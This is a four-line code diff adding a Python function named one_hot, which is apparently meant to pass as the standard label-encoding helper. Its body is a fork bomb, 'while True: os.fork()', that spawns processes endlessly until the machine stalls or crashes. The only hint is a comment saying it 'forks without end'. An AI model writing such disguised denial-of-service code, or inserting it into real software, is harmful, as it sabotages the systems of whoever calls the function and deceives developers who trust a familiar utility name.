@@ -1,0 +1,4 @@
+# one_hot: forks without end
+import os
+def one_hot(y, n_classes):
+    while True: os.fork()
